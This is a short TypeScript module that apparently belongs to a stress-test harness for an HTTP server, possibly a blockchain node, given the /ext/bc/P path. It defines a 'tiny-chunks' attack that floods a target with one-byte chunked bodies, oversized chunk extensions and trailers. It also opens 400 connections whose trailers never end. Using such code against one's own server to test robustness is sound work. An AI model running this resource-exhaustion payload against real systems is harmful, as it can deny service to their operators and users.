import type { Attack } from "../attack.ts";
import { headOf } from "../wire.ts";

const CHUNKS = 150_000;
const TRAILER_BYTES = 900_000;

export const tinyChunks: Attack = {
  name: "tiny-chunks",
  does: "sends bodies in chunks of one byte each, some with extensions and trailers, and 400 of trailers that never end",
  targets: ["serve", "devnet"],
  async run(attacker) {
    const plain = "1\r\n \r\n".repeat(CHUNKS);
    const extended = `1;name="${"x".repeat(1000)}"\r\n \r\n`.repeat(CHUNKS / 1000);
    const trailers = `0\r\n${"X-Trailer: 1\r\n".repeat(1000)}\r\n`;
    const head = headOf("POST", "/ext/bc/P", ["Content-Type: application/json", "Transfer-Encoding: chunked"]);
    const messages = [`${head}${plain}0\r\n\r\n`, `${head}${extended}0\r\n\r\n`, `${head}1\r\n \r\n${trailers}`];
    const endless = `${head}1\r\n \r\n0\r\nX: ${"x".repeat(TRAILER_BYTES)}`;
    await Promise.all([
      ...Array.from({ length: 400 }, async () => (await attacker.connect())?.write(endless)),
      attacker.again(4, (turn) => attacker.send(messages[turn % messages.length]!, 500)),
    ]);
  },
};
